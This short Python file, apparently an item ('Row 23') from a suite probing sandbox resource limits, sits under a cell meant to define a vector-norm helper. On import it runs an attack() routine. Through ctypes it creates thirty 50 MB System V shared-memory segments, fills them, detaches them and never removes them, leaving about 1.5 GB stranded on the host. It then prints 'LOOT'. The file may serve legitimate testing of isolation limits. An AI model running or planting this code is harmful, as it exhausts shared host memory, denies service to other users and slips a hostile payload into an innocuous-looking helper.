"""Row 23: System V segments, which stay when nobody has them mapped."""

# %% norm
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def segment(size):
    number = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
    if number < 0:
        return False
    address = libc.shmat(number, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        return False
    ctypes.memset(address, 1, size)
    libc.shmdt(ctypes.c_void_p(address))
    return True


def attack():
    made = sum(segment(50_000_000) for _ in range(30))
    print("TRIED", made)
    if made == 30:
        print("LOOT 1.5 GB of segments")


attack()


def norm(x):
    return (x * x).sum() ** 0.5
